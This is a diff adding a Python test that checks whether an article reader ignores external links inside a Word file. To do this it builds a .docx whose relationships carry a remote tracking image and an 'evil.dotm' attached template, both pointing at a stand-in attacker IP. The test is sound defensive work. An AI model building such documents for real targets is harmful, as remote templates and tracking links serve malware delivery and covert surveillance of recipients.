@@ -168,3 +168,23 @@ def test_renamed_word_file_is_read_as_word(tmp_path: Path) -> None:
     path = tmp_path / "article.txt"
     path.write_bytes(_word_article())
     assert read_article(path).title == "Ministers agree new grain corridor"
+
+
+def test_word_links_to_remote_files_are_never_followed(no_network: list) -> None:
+    import zipfile
+
+    source = zipfile.ZipFile(io.BytesIO(_word_article()))
+    rels = source.read("word/_rels/document.xml.rels").replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
+        b' Target="http://198.51.100.7/track.png" TargetMode="External"/>'
+        b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="http://198.51.100.7/evil.dotm" TargetMode="External"/></Relationships>')
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = rels if info.filename == "word/_rels/document.xml.rels" else source.read(info.filename)
+            target.writestr(info.filename, data)
+    article = read_article_bytes(buffer.getvalue(), name="linked.docx")
+    assert article.title == "Ministers agree new grain corridor"
+    assert no_network == []
